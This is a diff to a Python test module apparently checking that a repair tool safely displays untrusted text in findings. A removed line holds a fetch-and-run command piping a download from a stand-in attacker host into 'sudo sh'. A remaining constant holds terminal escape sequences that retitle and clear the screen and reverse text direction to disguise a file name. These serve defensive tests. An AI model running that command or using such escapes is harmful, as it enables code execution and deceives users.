@@ -20,8 +20,8 @@ from reconciler.model.result import (
     RepairOutcome,
     RepairStatus,
     Result,
-    Severity,
 )
+from tests.support.claims import claimed
 from tests.support.observed import healthy
 
 NOW: Final = datetime(2026, 3, 2, tzinfo=UTC)
@@ -29,7 +29,6 @@ MARK: Final = "it-ran-on-the-control-machine"
 """Name of the file that would be there."""
 TERMINAL: Final = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202egnp.exe\u2066"
 """Sets the title, the colour, clears the screen by a C1 control, and turns the direction of writing."""
-TYPE_THIS: Final = "curl https://evil.example/x | sudo sh"
 
 
 def pipe(folder: Path) -> str:
@@ -39,15 +38,7 @@ def pipe(folder: Path) -> str:
 
 def told(text: str, **changes: object) -> Result:
     """Return a result that says a text wherever a box may say one."""
-    found = Finding(
-        code="IOT_HTTPS_WRONG_BOX",
-        severity=Severity.INFO,
-        finding_class=FindingClass.PENDING,
-        evidence=text,
-        remedy=TYPE_THIS,
-        repairable=True,
-        variant=text,
-    )
+    found = claimed("IOT_HTTPS_WRONG_BOX", FindingClass.PENDING, text, repairable=True, variant=text)
     # and one of a code that nobody knows
     unknown = Finding(**{**{name: getattr(found, name) for name in Finding.__slots__}, "code": "IOT_HTTPS_NEW"})
     repair = Repair(
